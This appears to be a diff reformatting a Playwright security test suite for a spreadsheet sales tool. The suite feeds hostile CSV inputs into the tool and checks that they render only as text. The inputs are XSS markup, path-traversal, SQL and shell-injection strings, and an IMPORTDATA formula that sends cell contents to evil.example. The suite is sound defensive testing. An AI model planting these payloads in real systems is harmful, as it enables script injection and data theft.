@@ -16,7 +16,7 @@ const MARKUP: readonly string[] = [
   '<x-pwned>element</x-pwned>',
   '<img src=x onerror="window.pwned=1" data-pwned>',
   '"><svg onload="window.pwned=1" data-pwned>',
-  '\' onmouseover=\'window.pwned=1\' data-pwned=\'',
+  "' onmouseover='window.pwned=1' data-pwned='",
   '" autofocus onfocus="window.pwned=1" data-pwned="',
   '<script data-pwned>window.pwned=1</script>',
   '</script><script data-pwned>window.pwned=1</script>',
@@ -32,29 +32,99 @@ const MARKUP: readonly string[] = [
   '<!channel> <@U1> <https://evil.example|https://app.example>',
 ];
 
-const NAUGHTY: readonly string[] = ['undefined', 'null', 'NaN', '../../../etc/passwd', 'ثم نفس سقطت', '田中さんにあげて下さい', '👩🏽‍🚀🏳️‍⚧️', 'ﷺ', 'Ṱ̺̺̕o͞ ̷i̲̬', '‮test‮', 'ﬃ ſ İ ı', '1;DROP TABLE users', '$(touch /tmp/x)', '__proto__', 'constructor', 'hasOwnProperty'];
+const NAUGHTY: readonly string[] = [
+  'undefined',
+  'null',
+  'NaN',
+  '../../../etc/passwd',
+  'ثم نفس سقطت',
+  '田中さんにあげて下さい',
+  '👩🏽‍🚀🏳️‍⚧️',
+  'ﷺ',
+  'Ṱ̺̺̕o͞ ̷i̲̬',
+  '‮test‮',
+  'ﬃ ſ İ ı',
+  '1;DROP TABLE users',
+  '$(touch /tmp/x)',
+  '__proto__',
+  'constructor',
+  'hasOwnProperty',
+];
 
-const MARKS = 'x-pwned, [data-pwned], [onerror], [onload], [onfocus], [onmouseover], iframe[srcdoc*=pwned], [href^="javascript:"]';
+const MARKS =
+  'x-pwned, [data-pwned], [onerror], [onload], [onfocus], [onmouseover], iframe[srcdoc*=pwned], [href^="javascript:"]';
 
 const vectors = threatVectors();
-const outside = vectors === null ? [] : [...vectors.slack.inputs, ...((vectors as unknown as { readonly formula?: { readonly inputs: readonly string[] } }).formula?.inputs ?? [])];
-const TEXTS = [...new Set([...MARKUP, ...NAUGHTY, ...HOSTILE_TEXTS, ...outside])].filter((text) => text.trim() !== '' && text.length < 2_000);
+const outside =
+  vectors === null
+    ? []
+    : [
+        ...vectors.slack.inputs,
+        ...((vectors as unknown as { readonly formula?: { readonly inputs: readonly string[] } }).formula?.inputs ??
+          []),
+      ];
+const TEXTS = [...new Set([...MARKUP, ...NAUGHTY, ...HOSTILE_TEXTS, ...outside])].filter(
+  (text) => text.trim() !== '' && text.length < 2_000,
+);
 
-const TEXT_COLUMNS = overlapsTab.columns.filter(({ id, type, owner }) => type === 'text' && owner === 'nexus' && !['key', 'reasons', 'band', 'ownerEmail', 'accountDomain', 'partnerDomain'].includes(id)).map(({ id }) => id);
+const TEXT_COLUMNS = overlapsTab.columns
+  .filter(
+    ({ id, type, owner }) =>
+      type === 'text' &&
+      owner === 'nexus' &&
+      !['key', 'reasons', 'band', 'ownerEmail', 'accountDomain', 'partnerDomain'].includes(id),
+  )
+  .map(({ id }) => id);
 
 /** So many employees make each worth a message, whatever its score. */
 function writeFiles(folder: string): void {
-  const put = (name: string, header: readonly string[], rows: readonly (readonly string[])[]): void => writeFileSync(join(folder, name), writeRaw(header, rows));
-  put('overlaps.csv', ['key', 'ownerEmail', 'employees', 'status', 'note', ...TEXT_COLUMNS], TEXTS.map((text, i) => [`hostile-${i}`, 'hugo@nexus.example', '1000000', '', text, ...TEXT_COLUMNS.map(() => text)]));
-  put('team.csv', ['name', 'email', 'role', 'manager', 'territories', 'hours'], TEXTS.map((text, i) => [text, `hostile${i}@nexus.example`, i % 7 === 0 ? text : 'AE', i % 5 === 0 ? text : '', text, i % 9 === 0 ? text : '']));
-  put('weights.csv', ['model', 'criterion', 'field', 'scale', 'weight', 'help'], MARKUP.map((text) => ['opportunity', text, 'industry', 'map *=1', '0.01', text]));
-  put('routes.csv', ['assignTo', 'country', 'help'], MARKUP.map((text) => [text, text, text]));
-  put('bands.csv', ['name', 'min', 'colour', 'guidance'], [['<x-pwned>band', '90', '#ffe8b3', '<img src=x onerror="window.pwned=1" data-pwned>']]);
+  const put = (name: string, header: readonly string[], rows: readonly (readonly string[])[]): void =>
+    writeFileSync(join(folder, name), writeRaw(header, rows));
+  put(
+    'overlaps.csv',
+    ['key', 'ownerEmail', 'employees', 'status', 'note', ...TEXT_COLUMNS],
+    TEXTS.map((text, i) => [
+      `hostile-${i}`,
+      'hugo@nexus.example',
+      '1000000',
+      '',
+      text,
+      ...TEXT_COLUMNS.map(() => text),
+    ]),
+  );
+  put(
+    'team.csv',
+    ['name', 'email', 'role', 'manager', 'territories', 'hours'],
+    TEXTS.map((text, i) => [
+      text,
+      `hostile${i}@nexus.example`,
+      i % 7 === 0 ? text : 'AE',
+      i % 5 === 0 ? text : '',
+      text,
+      i % 9 === 0 ? text : '',
+    ]),
+  );
+  put(
+    'weights.csv',
+    ['model', 'criterion', 'field', 'scale', 'weight', 'help'],
+    MARKUP.map((text) => ['opportunity', text, 'industry', 'map *=1', '0.01', text]),
+  );
+  put(
+    'routes.csv',
+    ['assignTo', 'country', 'help'],
+    MARKUP.map((text) => [text, text, text]),
+  );
+  put(
+    'bands.csv',
+    ['name', 'min', 'colour', 'guidance'],
+    [['<x-pwned>band', '90', '#ffe8b3', '<img src=x onerror="window.pwned=1" data-pwned>']],
+  );
 }
 
 /** As it is: what is written for people to open in Excel gets an apostrophe before an equals sign. */
 const writeRaw = (header: readonly string[], rows: readonly (readonly string[])[]): string =>
-  writeCsv(header, []) + rows.map((cells) => `${cells.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')}\n`).join('');
+  writeCsv(header, []) +
+  rows.map((cells) => `${cells.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')}\n`).join('');
 
 let desk: Desk;
 
@@ -62,10 +132,16 @@ let desk: Desk;
 async function tick(): Promise<void> {
   const runs = rowsOf(desk.workbook, 'Runs').length;
   await desk.page.getByTestId('clock-minutes').click();
-  await until(() => rowsOf(desk.workbook, 'Runs').length, (count) => count > runs + 1, 'runs of the tick', 60_000);
+  await until(
+    () => rowsOf(desk.workbook, 'Runs').length,
+    (count) => count > runs + 1,
+    'runs of the tick',
+    60_000,
+  );
 }
 
-const hostileMessages = () => rowsOf(desk.workbook, 'Messages').filter(({ record }) => String(record).startsWith('hostile-'));
+const hostileMessages = () =>
+  rowsOf(desk.workbook, 'Messages').filter(({ record }) => String(record).startsWith('hostile-'));
 
 beforeAll(async () => {
   const folder = mkdtempSync(join(tmpdir(), 'nexus-hostile-'));
@@ -73,23 +149,37 @@ beforeAll(async () => {
   desk = await openDesk({
     prepare: (workbook) => {
       nexus(workbook, 'edit', 'Settings', 'nudge.dailyCap', 'value', '500');
-      for (const tab of ['Bands', 'Weights', 'Team', 'Routes', 'Overlaps']) nexus(workbook, 'import', tab, join(folder, `${tab.toLowerCase()}.csv`));
+      for (const tab of ['Bands', 'Weights', 'Team', 'Routes', 'Overlaps'])
+        nexus(workbook, 'import', tab, join(folder, `${tab.toLowerCase()}.csv`));
     },
   });
   rmSync(folder, { recursive: true, force: true });
   await tick();
-  await until(() => hostileMessages().length, (count) => count > 5, 'messages planned', 60_000);
+  await until(
+    () => hostileMessages().length,
+    (count) => count > 5,
+    'messages planned',
+    60_000,
+  );
   await desk.reload();
 }, 120_000);
 afterAll(() => desk.close());
 
 /** What of the payloads became more than text, in any frame. */
 async function marks(): Promise<readonly string[]> {
-  const inFrame = (frame: Frame): Promise<readonly string[]> => frame.evaluate((selector) => [...[...document.querySelectorAll(selector)].map((element) => element.outerHTML.slice(0, 200)), ...('pwned' in window ? ['a script ran'] : [])], MARKS);
+  const inFrame = (frame: Frame): Promise<readonly string[]> =>
+    frame.evaluate(
+      (selector) => [
+        ...[...document.querySelectorAll(selector)].map((element) => element.outerHTML.slice(0, 200)),
+        ...('pwned' in window ? ['a script ran'] : []),
+      ],
+      MARKS,
+    );
   return (await Promise.all(desk.page.frames().map(inFrame))).flat();
 }
 
-const accountsShown = (): Promise<readonly unknown[]> => desk.ask((handle) => Array.from({ length: handle.rowCount() }, (_, row) => handle.valueAt(row, 1)));
+const accountsShown = (): Promise<readonly unknown[]> =>
+  desk.ask((handle) => Array.from({ length: handle.rowCount() }, (_, row) => handle.valueAt(row, 1)));
 
 const shownText = (): Promise<string> => desk.sidebar.locator('body').innerText();
 
@@ -100,12 +190,18 @@ test('the payloads are in the workbook as they came, and none is a formula', asy
   const rows = rowsOf(desk.workbook, 'Overlaps').filter(({ key }) => String(key).startsWith('hostile-'));
   expect(rows).toHaveLength(TEXTS.length);
   expect(MARKUP.filter((text) => !rows.some(({ account }) => account === text))).toEqual([]);
-  for (const tab of ['Overlaps', 'Team', 'Weights', 'Routes', 'Bands']) expect([tab, formulasIn(desk.workbook, tab)]).toEqual([tab, []]);
+  for (const tab of ['Overlaps', 'Team', 'Weights', 'Routes', 'Bands'])
+    expect([tab, formulasIn(desk.workbook, tab)]).toEqual([tab, []]);
   expect(await marks()).toEqual([]);
 });
 
 test('every tab of the grid shows them as text', async () => {
-  const titles = await desk.ask((handle) => handle.book().tabs.filter(({ isHidden }) => !isHidden).map(({ title }) => title));
+  const titles = await desk.ask((handle) =>
+    handle
+      .book()
+      .tabs.filter(({ isHidden }) => !isHidden)
+      .map(({ title }) => title),
+  );
   expect(titles).toContain('<x-pwned>band');
   for (const title of titles) {
     await desk.openTab(title);
@@ -113,33 +209,54 @@ test('every tab of the grid shows them as text', async () => {
     expect([title, await marks()]).toEqual([title, []]);
   }
   await desk.openTab('Overlaps');
-  await until(accountsShown, (shown) => ['<img src=x onerror="window.pwned=1" data-pwned>', '=IMPORTDATA("https://evil.example/?"&A1)'].every((text) => shown.includes(text)), 'accounts as they came');
+  await until(
+    accountsShown,
+    (shown) =>
+      ['<img src=x onerror="window.pwned=1" data-pwned>', '=IMPORTDATA("https://evil.example/?"&A1)'].every((text) =>
+        shown.includes(text),
+      ),
+    'accounts as they came',
+  );
 });
 
-test.each(['Record', 'Weights', 'Queue', 'Health', 'Team'] as const)('the screen %s shows them as text', async (screen) => {
-  if (screen === 'Record') {
-    await desk.openTab('Overlaps');
-    const row = (await until(accountsShown, (shown) => shown.includes(MARKUP[1] ?? ''), 'the account')).indexOf(MARKUP[1] ?? '');
-    await desk.page.evaluate((cell) => window.nexusPage?.select(cell), `B${row + 1}`);
-  }
-  await desk.screen(screen);
-  await until(shownText, (text) => /pwned/.test(text), `payloads on ${screen}`);
-  for (const summary of await desk.sidebar.locator('details:not([open]) > summary').all()) if (await summary.isVisible()) await summary.click();
-  expect(await marks()).toEqual([]);
-  if (screen !== 'Team') return;
-  const text = plain(await shownText());
-  const names = rowsOf(desk.workbook, 'Team').map(({ name }) => String(name ?? '')).filter((name) => plain(name) !== '' && name.length < 60);
-  expect(names.filter((name) => !text.includes(plain(name)))).toEqual([]);
-});
+test.each(['Record', 'Weights', 'Queue', 'Health', 'Team'] as const)(
+  'the screen %s shows them as text',
+  async (screen) => {
+    if (screen === 'Record') {
+      await desk.openTab('Overlaps');
+      const row = (await until(accountsShown, (shown) => shown.includes(MARKUP[1] ?? ''), 'the account')).indexOf(
+        MARKUP[1] ?? '',
+      );
+      await desk.page.evaluate((cell) => window.nexusPage?.select(cell), `B${row + 1}`);
+    }
+    await desk.screen(screen);
+    await until(shownText, (text) => /pwned/.test(text), `payloads on ${screen}`);
+    for (const summary of await desk.sidebar.locator('details:not([open]) > summary').all())
+      if (await summary.isVisible()) await summary.click();
+    expect(await marks()).toEqual([]);
+    if (screen !== 'Team') return;
+    const text = plain(await shownText());
+    const names = rowsOf(desk.workbook, 'Team')
+      .map(({ name }) => String(name ?? ''))
+      .filter((name) => plain(name) !== '' && name.length < 60);
+    expect(names.filter((name) => !text.includes(plain(name)))).toEqual([]);
+  },
+);
 
 test('messages show them as text, in the outboxes too', async () => {
   nexus(desk.workbook, 'edit', 'Settings', 'nudge.mode', 'value', 'live');
   await tick();
-  await until(() => hostileMessages().filter(({ state }) => state === 'sent').length, (count) => count > 5, 'sent', 60_000);
+  await until(
+    () => hostileMessages().filter(({ state }) => state === 'sent').length,
+    (count) => count > 5,
+    'sent',
+    60_000,
+  );
   for (const panel of ['slack', 'mail', 'runs'] as const) {
     await desk.page.getByTestId(`open-${panel}`).click();
     await desk.page.getByTestId(`panel-${panel}`).locator('article, details, tr').first().waitFor();
-    for (const mail of panel === 'mail' ? (await desk.page.getByTestId('mail').all()).slice(0, 10) : []) await mail.locator('summary').click();
+    for (const mail of panel === 'mail' ? (await desk.page.getByTestId('mail').all()).slice(0, 10) : [])
+      await mail.locator('summary').click();
     await desk.page.waitForTimeout(500);
     expect([panel, await marks()]).toEqual([panel, []]);
   }
@@ -156,7 +273,10 @@ test('menus and their dialogs show them as text', async () => {
   await desk.menu('Erase a person…');
   await desk.page.getByTestId('prompt-text').fill('hostile1@nexus.example');
   await desk.page.getByTestId('answer-ok').click();
-  await desk.page.getByTestId('dialog').getByText(/To erase:/).waitFor();
+  await desk.page
+    .getByTestId('dialog')
+    .getByText(/To erase:/)
+    .waitFor();
   expect(await marks()).toEqual([]);
   await desk.page.getByTestId('answer-no').click();
   expect(desk.complaints()).toEqual([]);
